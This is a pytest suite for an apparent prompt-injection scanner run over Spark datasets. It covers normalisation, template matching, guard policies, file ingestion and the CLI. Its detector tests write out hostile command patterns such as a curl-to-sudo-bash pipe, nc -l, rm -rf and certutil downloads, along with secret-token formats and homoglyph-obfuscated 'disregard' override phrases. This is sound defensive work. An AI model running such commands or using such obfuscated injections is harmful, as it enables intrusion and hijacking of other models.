"""The scan's paths against each other and against DuckDB, and the edges of its parts."""

import random

import duckdb
import pytest
from pyspark.sql import functions as F

from tarnsift import base as B
from tarnsift import queries
from tarnsift.functions import text as T
from tarnsift.operators import findings, guard, scan, templates
from tarnsift.plans import fixtures as X
from tarnsift.plans import fused
from tarnsift.sources import files, sinks

TABLES = "documents pages conversations labels benchmark events".split()


@pytest.fixture(scope="module")
def data(spark, tmp_path_factory):
    """Small tables in the driver's shapes, made here."""
    r = random.Random(5)
    words = "lorem ipsum dolor sit amet café über niño the and to all".split()
    said = lambda n: "\n".join(" ".join(r.choices(words, k=r.randint(3, 14))) + r.choice([".", "", ","]) for _ in range(n))
    d = str(tmp_path_factory.mktemp("data"))
    more = ["", " mail me@home.example", " see https://a.example/x?y", " card 4111 1111 1111 1111", " at 10.2.3.4", " run /etc/conf.sh", " 'bash -c ls'"]
    spark.createDataFrame([(i, said(r.randint(1, 6)) + r.choice(more), "en", "s", 0) for i in range(60)], "doc_id long, text string, lang string, source string, n_chars long").write.parquet(f"{d}/documents.parquet")
    spark.createDataFrame([(i, "u", f"<p>{said(2)}</p>" + r.choice(more)) for i in range(20)], "page_id long, url string, html string").write.parquet(f"{d}/pages.parquet")
    spark.createDataFrame([(c, t, ("system", "user", "assistant", "user", "assistant")[t], said(1)) for c in range(8) for t in range(r.randint(2, 5))], "conv_id long, turn long, role string, text string").write.parquet(f"{d}/conversations.parquet")
    spark.createDataFrame([(i, i % 2, i % 5 == 0 and 1 or 0) for i in range(40)], "doc_id long, quality int, toxic int").write.parquet(f"{d}/labels.parquet")
    spark.createDataFrame([(i, "one two three four five six seven " + "abcdefgh"[i % 8]) for i in range(16)], "item_id long, text string").write.parquet(f"{d}/benchmark.parquet")
    spark.sql("select id as event_id, timestamp_ntz'2024-01-01 00:00:00' + make_dt_interval(0, 0, cast(id * 7 as int)) as ts, 'x' as event_type, id / 2.0D as value from range(50)").write.parquet(f"{d}/events.parquet")
    return d


@pytest.mark.parametrize("name", sorted(set(queries.QUERIES) & set(queries.SQL)))
def test_like_duckdb(spark, data, name):
    con = duckdb.connect()
    for t in TABLES:
        con.execute(f"create view {t} as select * from '{data}/{t}.parquet/*.parquet'")
    want = con.execute(queries.SQL[name])
    columns = sorted(x[0] for x in want.description)
    at = [[x[0] for x in want.description].index(c) for c in columns]
    show = lambda v: f"{v:.6g}" if isinstance(v, float) else str(v)
    rows = sorted([show(r[i]) for i in at] for r in want.fetchall())
    got = queries.QUERIES[name](spark, data)
    assert sorted(got.columns) == columns
    assert sorted([show(r[c]) for c in columns] for r in got.collect()) == rows


def test_gate_changes_nothing_and_hides_nothing(spark, data):
    docs = X.planted(spark.read.parquet(f"{data}/documents.parquet"), X.PAYLOADS)
    one, two = (sorted(map(str, f(docs, B.load(), "ipi").collect())) for f in (fused.scan, fused.scan_gated))
    assert one == two and one
    hidden = X.planted(spark.read.parquet(f"{data}/documents.parquet"), X.HIDDEN, X.MISSES)
    found = fused.scan_gated(hidden, B.load(), "ipi").select("doc_key").distinct().count()
    assert found == hidden.where("label = 'injected'").count()


def test_one_python_stage(spark, data):
    plan = queries.scan_gated(spark, data)._jdf.queryExecution().optimizedPlan().toString()
    assert plan.count("MapInArrow") == 1


def test_null_empty_and_repeated_rows(spark):
    docs = spark.createDataFrame([(1, None), (2, ""), (3, X.PAYLOADS[0][4]), (3, X.PAYLOADS[0][4]), (4, "-" * 3000)], "doc_key long, text string")
    assert {r.doc_key for r in fused.scan(docs, B.load()).collect()} == {3}
    found = scan.fired(scan.edges(scan.with_hits(docs, B.load())), docs, B.load(), "ipi")
    assert {r.doc_key for r in found.collect()} == {3}
    assert fused.scan(docs.where("false"), B.load()).count() == 0


def test_normal_form():
    for t in ("a​b", "disrеgard", "ｆｕｌｌ ﬁ", "a   b \n c", "", "привет", "x ­y"):
        once, src = T.normal(t)
        src = list(src)
        assert len(once) == len(src) and src == sorted(src) and all(0 <= i < len(t) for i in src)
        assert T.normal(once)[0] == once
    assert T.normal("a​b disrеgard")[0] == "ab disregard" and T.normal("привет")[0] == "привет"


def test_base_checks():
    assert B.newest(["engine_v1_20260101_b1.json", "engine_v9_20270101_b1.json", "x"]) == "engine_v1_20260101_b1.json"
    assert {"trims", "trimmed", "trimming", "trimed", "triming"} == B.inflected("trim")
    with pytest.raises(B.BaseUnavailable):
        B.parse({"schema": 1, "version": "20260101", "build": 2}, "engine_v1_20260101_b1.json")
    with pytest.raises(ValueError):
        B.load().active("other")


def test_place_is_tightest():
    r = random.Random(2)
    for _ in range(200):
        sides = [[(a := r.randint(0, 40), a + r.randint(1, 9)) for _ in range(r.randint(1, 4))] for _ in range(r.randint(1, 3))]
        import itertools

        best = min(max(h for _, h in p) - min(lo for lo, _ in p) for p in itertools.product(*sides))
        assert fused.Scanner.place(sides)[0] == best


def test_guard(spark):
    docs = spark.createDataFrame([(1, "abcdef"), (2, "xyz"), (3, None)], "doc_key long, text string")
    spans = spark.createDataFrame([(1, 1, 3), (1, 3, 4), (2, 0, 3)], "doc_key long, block_lo int, block_hi int")
    found = guard.blocks(spans)
    rows = lambda **k: {r.doc_key: (r.text, r.keep, r.removed) for r in guard.apply(docs, found, **k).collect()}
    assert rows(policy="blank", blank="#") == {1: ("a###ef", True, 3), 2: ("###", True, 3), 3: (None, True, 0)}
    assert rows(policy="mask") == {1: ("aef", True, 3), 2: ("", False, 3), 3: (None, True, 0)}
    assert {k: v[1] for k, v in rows(policy="drop").items()} == {1: False, 2: False, 3: True}
    with pytest.raises(Exception, match="injection found"):
        guard.apply(docs, found, "fail").count()
    with pytest.raises(ValueError, match="another prefix"):
        guard.apply(docs.withColumn("KEEP", F.lit(1)), found)
    assert guard.apply(docs.withColumn("keep", F.lit("mine")).withColumn("spans", F.lit(7)), found, prefix="g_").columns == ["doc_key", "text", "keep", "spans", "g_keep", "g_flagged", "g_policy", "g_removed"]
    with pytest.raises(ValueError):
        guard.apply(docs, found, "other")


def test_boundary(spark):
    long = "The first line of a wrapped sentence that goes on and\nwith the payload in its middle, still running on here\nand ends here.\n- a bullet"
    text = "Head.\n" + long
    lo = text.index("payload")
    docs = spark.createDataFrame([(1, text), (2, "x " * 900 + "end. Now payload here. More " + "y " * 900)], "doc_key long, text string")
    spans = spark.createDataFrame([(1, lo, lo + 7), (2, 1809, 1816)], "doc_key long, lo int, hi int")
    got = {r.doc_key: (r.block_lo, r.block_hi) for r in guard.boundary(spans, docs).collect()}
    assert text[slice(*got[1])] == long.rpartition("\n")[0]
    t = docs.where("doc_key = 2").first().text
    assert t[slice(*got[2])].strip() == "Now payload here."


def test_templates(spark):
    steps = templates.parse("{A} ~2 {B}? stop")
    assert steps == [("A", 0, False), ("B", 2, True), ("LIT:stop", 0, False)]
    assert templates.expand(steps) == [[("A", 0), ("B", 2), ("LIT:stop", 0)], [("A", 0), ("LIT:stop", 3)]]
    at = lambda low, *hits: templates.placed(low, hits)
    x = at("a x y b stop\nb", (0, 1, "A"), (6, 7, "B"), (8, 12, "LIT:stop"), (13, 14, "B"))
    assert templates.match(x, [("A", 0), ("B", 2), ("LIT:stop", 0)]) == [(0, 12, 5)]
    assert templates.match(x, [("LIT:stop", 0), ("B", 0)]) == []
    two = [("S", 0), ("B", 0)]
    assert templates.match(at("a stop\nb", (2, 6, "S"), (7, 8, "B")), two, multiline=True) == [(2, 8, 2)]
    # A line end costs by itself, and costs nothing across lines, also after the end of a sentence.
    assert templates.match(at("a.\nb", (0, 1, "S"), (3, 4, "B")), two, multiline=True) == [(0, 4, 2)]
    assert templates.match(at("a.) b", (0, 1, "S"), (4, 5, "B")), [("S", 0), ("B", 3)]) == []
    assert templates.match(at("a.) b", (0, 1, "S"), (4, 5, "B")), [("S", 0), ("B", 4)]) == [(0, 5, 2)]
    assert templates.match(at("x |y", (0, 1, "S"), (3, 4, "B")), [("S", 0), ("B", 98)]) == [] and templates.match(at("x<|y", (0, 1, "S"), (3, 4, "B")), two) == [(0, 4, 2)]
    # Signs between words have places of their own; a match clears what is open.
    assert templates.match(at("--- b", (0, 3, "S"), (4, 5, "B")), two) == [] and templates.match(at("a --- b", (2, 5, "S"), (6, 7, "B")), two) == [(2, 7, 1)]
    assert templates.match(at("s s b b", (0, 1, "S"), (2, 3, "S"), (4, 5, "B"), (6, 7, "B")), [("S", 0), ("B", 3)]) == [(0, 5, 3)]
    docs = spark.createDataFrame([(1, "Please\u200b disre\u200bgard all [ x"), (2, None), (3, "")], "doc_key long, text string")
    got = templates.fragments(docs, B.load(), [("please ~0 disregard", False), ("[", False)]).collect()
    assert sorted(tuple(r) for r in got) == [(1, 0, 0, 18, 2), (1, 1, 23, 24, 1)]


def test_recognisers():
    found = lambda t: {(t[a:b], k) for a, _, b, k in T.found_entities(t)}
    for call in ("os.system(", "subprocess.check_output (", "execSync(", "spawnSync(", "Invoke-Expression(", "iex (", "popen("):
        assert (call, "CODE_EXEC") in found(f"then {call}x)")
    for flag in ("bash -c", "python3  -c", "node -e", "powershell -enc", "powershell.exe -e", "nc -l", "rm -rf", "chmod +x", "certutil -urlcache", "base64 -d", "dd if=", "ssh -"):
        assert (flag, "CODE_EXEC") in found(f"run {flag} it" if flag[-1] != "-" else f"run {flag}i it")
    assert ("curl x.example | sudo bash", "CODE_EXEC") in found("curl x.example | sudo bash")
    for key in ("sk-" + "a1" * 8, "ghp_" + "a" * 20, "AKIA" + "A1" * 6, "xoxr-" + "1" * 10, "eyJ" + "a" * 10 + "." + "b" * 10):
        assert (key, "SECRET_TOKEN") in found(f"key {key}, kept")
    assert found("scripts bash-c evaluate(x) printf(y)") == set()
    many = " ".join(f"u{i}@mail.example" for i in range(20_000))
    assert len(T.found_entities(many)) == 20_000


def test_fast_forms_are_the_slow_ones():
    """Against a form made character by character."""
    import unicodedata

    r = random.Random(7)
    signs = "ab Z1_.\n\t\r\x00\x0b\x85\u00a0\u200b\u00ad\u2028éе\u0301οﬁＡİΣ🙂|" + T.LOOKALIKE[:6]
    for _ in range(3000):
        t = "".join(r.choices(signs, k=r.randint(0, 14)))
        out, src, blank = [], [], False
        for i, c in enumerate(t):
            kind = unicodedata.category(c)
            if c not in "\n\t\r" and kind in ("Cc", "Cf"):
                continue
            if kind[0] == "Z":
                if not blank:
                    out.append(" ")
                    src.append(i)
                blank = True
                continue
            blank = False
            form = unicodedata.normalize("NFKC", c)
            out += form
            src += [i] * len(form)
        made = "".join(out)
        import re

        fold = lambda w: "".join(T.LOOKALIKES.get(c, c) for c in w[0]) if re.search("[A-Za-z]", w[0]) and any(c in T.LOOKALIKES for c in w[0]) else w[0]
        made = re.sub(r"\w+", fold, made)
        got = T.normal(t)
        assert (got[0], list(got[1])) == (made, src), t
        assert not T.is_normal(t) or made == t
        assert len(T.lowered(t)) == len(t)


def test_collapse_and_contexts(spark):
    base = B.parse({"schema": 1, "version": "20260101", "build": 1, "engine": {"slots": [{"slot": "A", "variants": ["one two", "two"]}, {"slot": "MARK", "variants": ["---", "----"]}]}, "rules": []})
    s = fused.Scanner(base)
    assert [h for h in s.hits("x ----- one two")[0] if h[2] == "MARK"] == [(2, 6, "MARK")]
    docs = spark.createDataFrame([(1, "p one two q r\n\ns t"), (2, "p two"), (3, None)], "doc_key long, text string")
    got = {(r.slot, r.token, r.side, r.dist): r.n for r in scan.contexts(scan.with_hits(docs, base)).collect()}
    # "two" within "one two" is a hit of its own, and passes over both words.
    assert got == {("A", "p", "L", "1"): 3, ("A", "q", "R", "1"): 2, ("A", "r", "R", "2"): 2}


def test_names_and_catalogue(spark):
    assert findings.named([(0, "A.B", "x"), (1, "A.B", "y"), (2, "C.D", "z")], {"y": "IPI/A.B.A"}) == {0: "IPI/A.B.B", 1: "IPI/A.B.A", 2: "IPI/C.D.A"}
    assert [findings.letters(n) for n in (0, 25, 26, 27)] == ["A", "Z", "Z1", "Z2"]
    assert findings.annotated({"rules": [{"threat": "x", "edges": []}], "x": 1}, {0: "y"}) == {"rules": [{"threat": "y", "edges": []}], "x": 1}
    known = findings.catalog(B.load().rules_table(spark))
    name = known.first().threat
    assert [r.exact for r in findings.explain(known, name).collect()] == [True] and findings.explain(known, "no such").count() == 0


def test_artifact(tmp_path):
    from tarnsift.base import artifact

    at, base = str(tmp_path / "base.gz"), B.load()
    artifact.write(base, at)
    assert artifact.load(at) == base and artifact.verify(at, base) == []
    import dataclasses

    other = dataclasses.replace(base, literals=base.literals[1:])
    assert any("only in the file" in x for x in artifact.verify(at, other))
    assert artifact.describe(base, "dpi")["rules"] == len(base.active("dpi"))
    (tmp_path / "broken").write_bytes(b"x")
    with pytest.raises(B.BaseUnavailable):
        artifact.load(str(tmp_path / "broken"))


def test_remote(spark):
    from tarnsift.sources import remote

    answers, slept = iter([(503, {}, ""), (429, {"Retry-After": "7"}, ""), (200, {}, "yes")]), []
    assert remote.ask("x", lambda t: next(answers), slept.append) == "yes" and slept == [1.0, 7.0]
    assert "too long" in remote.ask("x", lambda t: (413, {}, ""))
    for status in (401, 402, 403, 404):
        with pytest.raises(remote.Refused):
            remote.ask("x", lambda t: (status, {}, ""))  # noqa: B023
    docs = spark.createDataFrame([(1, "a"), (2, None)], "doc_key long, text string")
    assert sorted(map(tuple, remote.assess(docs, lambda t: (200, {}, t + "!")).collect())) == [(1, "a!"), (2, "!")]
    with pytest.raises(ValueError):
        remote.assess(docs, None, "dpi")


def test_survival(spark):
    from tarnsift.operators import measure

    r = random.Random(3)
    for _ in range(200):
        a, b = ("".join(r.choices("ab", k=r.randint(0, 30))) for _ in "xy")
        assert measure.longest_common(a, b) == max((n for n in range(len(a) + 1) for i in range(len(a) - n + 1) if a[i : i + n] in b), default=0)
    p = "abcdefghijklmnopqrstuvwxyz0123456789abcd"
    rows = spark.createDataFrame([(1, p, "x" + p.replace("a", "a", 1)), (2, p, p[:30]), (3, p, p[:20]), (4, "", "x"), (5, None, None), (6, "a  b", "a b c")], "id long, p string, t string")
    assert {x.id: x.survival for x in measure.survival(rows, "p", "t").collect()} == {1: 1.0, 2: 30 / 40, 3: 0.0, 4: 0.0, 5: 0.0, 6: 1.0}


def test_dialogue_checks(spark):
    from tarnsift.operators import dialogue

    turns = spark.createDataFrame([(1, 0, "user", "x"), (2, 0, "user", "")], "conv_id long, turn long, role string, text string")
    flagged = spark.createDataFrame([(1, 0, "dpi", ["b", "a"])], "conv_id long, turn long, mode string, threats array<string>")
    assert {r.conv_id: (r.n_read, r.flagged, r.keep, r.threats) for r in guard.decide(turns, flagged, {"user": "dpi"}, "drop").collect()} == {1: (1, True, False, ["b", "a"]), 2: (0, False, True, [])}
    with pytest.raises(ValueError):
        guard.decide(turns, flagged, {"user": "other"})
    with pytest.raises(ValueError):
        dialogue.validated(turns, flagged, {"user": "dpi"}, "drop")
    with pytest.raises(Exception, match="conversation 1"):
        dialogue.validated(turns, flagged, {"user": "dpi"}, "fail").count()


def test_files_and_names(spark, tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_bytes(b"caf\xe9")
    (tmp_path / "in" / "b.bin").write_bytes(b"x\0y")
    (tmp_path / "in" / "c.txt").write_text("z" * 100)
    got = {r.id.rpartition("/")[2]: (r.text, r.reason) for r in files.folder(spark, str(tmp_path / "in"), max_bytes=50).collect()}
    assert got == {"a.txt": ("caf�", None), "b.bin": (None, "binary"), "c.txt": (None, "too large")}
    (tmp_path / "l.jsonl").write_text('{"id": "x", "text": "one"}\n\nnot json\n{"body": 1}\n')
    lines = sorted((r.id, r.text, r.error) for r in files.jsonl(spark, str(tmp_path / "l.jsonl")).collect())
    assert lines == [("l.jsonl:3", "", True), ("l.jsonl:4", "", False), ("x", "one", False)]
    df = spark.createDataFrame([("../../etc/x.txt", "1"), ("/etc/x.txt", "2"), ("file:///a b/y", None), ("etc/x_1.txt", "4"), ("/etc/x_1.txt", "5")], "id string, text string")
    assert sorted(r.copy for r in sinks.named(df).collect()) == ["a b/y", "etc/x.txt", "etc/x_1.txt", "etc/x_2.txt", "etc/x_3.txt"]
    for _ in range(2):
        assert sinks.copied(df, str(tmp_path / "out")).count() == 5
    assert sorted(p.read_text() for p in (tmp_path / "out").rglob("*") if p.is_file()) == ["", "1", "2", "4", "5"]
    with pytest.raises(Exception, match="FileExistsError"):
        sinks.copied(df.withColumn("text", F.lit("other")), str(tmp_path / "out")).collect()


def test_walk_counts_what_it_skips(spark, tmp_path):
    (tmp_path / "sub").mkdir()
    for name, data in {"a.txt": b"one", ".h": b"two", "b.bin": b"x\0", "big": b"z" * 60, "sub/c.txt": b"caf\xe9", "_u": b"three"}.items():
        (tmp_path / name).write_bytes(data)
    seen = lambda **k: {r.id.removeprefix(f"{tmp_path}/"): (r.text, r.reason) for r in files.walk(spark, str(tmp_path), max_bytes=50, **k).collect()}
    flat = {"a.txt": ("one", None), "_u": ("three", None), ".h": (None, "hidden"), "b.bin": (None, "binary"), "big": (None, "too large")}
    assert seen() == {**flat, "sub": (None, "folder")}
    assert seen(recursive=True, hidden=True) == {**flat, ".h": ("two", None), "sub/c.txt": ("caf\ufffd", None)}
    got = files.files(spark, [str(tmp_path / x) for x in ("big", "b.bin", "gone")]).collect()
    assert sorted((r.text is None, r.reason) for r in got if r.reason) == [(True, "unreadable")] and len(got) == 3
    long = tmp_path / "l.jsonl"
    long.write_text("\n".join('{"id": "i%d", "text": "t"}' % i if i % 3 else "" if i % 2 else "no json" for i in range(1, 4000)))
    spark.conf.set("spark.sql.files.maxPartitionBytes", "4096")
    try:
        odd = sorted(int(r.id.partition(":")[2]) for r in files.jsonl(spark, str(long)).where("error").collect())
    finally:
        spark.conf.unset("spark.sql.files.maxPartitionBytes")
    assert odd == [i for i in range(1, 4000) if i % 3 == 0 and i % 2 == 0]


def test_command_line(spark, tmp_path):
    import json

    from tarnsift import cli

    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text(X.PAYLOADS[0][4])
    (tmp_path / "in" / "b.txt").write_text("nothing here")
    (tmp_path / "in" / ".c").write_text("x")
    said = []
    run = lambda *a: cli.main(list(map(str, a)), spark, said.append)
    assert run(tmp_path / "in", "--report", tmp_path / "report", "--collect", tmp_path / "copies") == 1
    assert "1 findings in 1 of them; hidden: 1" in said[-1] and ">>>" in said[0] and cli.forbidden("\n".join(said)) == []
    assert [p.name for p in (tmp_path / "copies").rglob("*.txt")] == ["a.txt"]
    lines = [x for p in (tmp_path / "report").glob("part-*") for x in p.read_text().splitlines()]
    assert len(lines) == 1 and json.loads(lines[0])["findings"][0]["text"]
    said.clear()
    assert run("--text", "nothing", "--json") == 0 and json.loads(said[0])["schema"] == 1 and json.loads(said[1])["flagged"] is False
    assert run("--text", X.PAYLOADS[0][4], "--exit-zero") == 0
    assert run(tmp_path / "gone") == 2 and run("--mode", "x") == 2 and run("--text", "x", "--base", tmp_path / "none") == 3
    assert cli.forbidden("All is SAFE, unsafe") == ["safe"]


def test_stream(spark, data, tmp_path):
    from tarnsift.streaming import scan as stream

    docs = X.planted(spark.read.parquet(f"{data}/documents.parquet")).select("doc_key", "text")
    docs.write.parquet(str(tmp_path / "in"))
    got = []
    q = stream.each_batch(spark.readStream.schema(docs.schema).parquet(str(tmp_path / "in")), lambda df: got.extend(fused.scan_gated(df, B.load()).collect()), str(tmp_path / "ck"))
    q.processAllAvailable()
    q.stop()
    assert sorted(map(str, got)) == sorted(map(str, fused.scan_gated(docs, B.load()).collect()))


def test_severity(spark):
    df = spark.createDataFrame([("high",), ("low",), ("odd",)], "s string")
    assert [r[0] for r in df.select(findings.severity_order(F.col("s"))).collect()] == [0, 2, 3]


def test_bootstrap_takes_all_resamples(spark, data, monkeypatch):
    from tarnsift.operators import measure

    asked = []
    whole = measure.bootstrap_slope
    monkeypatch.setattr(measure, "bootstrap_slope", lambda rows, size, ms, resamples=2000, **k: asked.append(resamples) or whole(rows, size, ms, resamples, **k))
    got = queries.cost_bootstrap(spark, data).first()
    assert asked == [2000] and got.lo <= got.hi
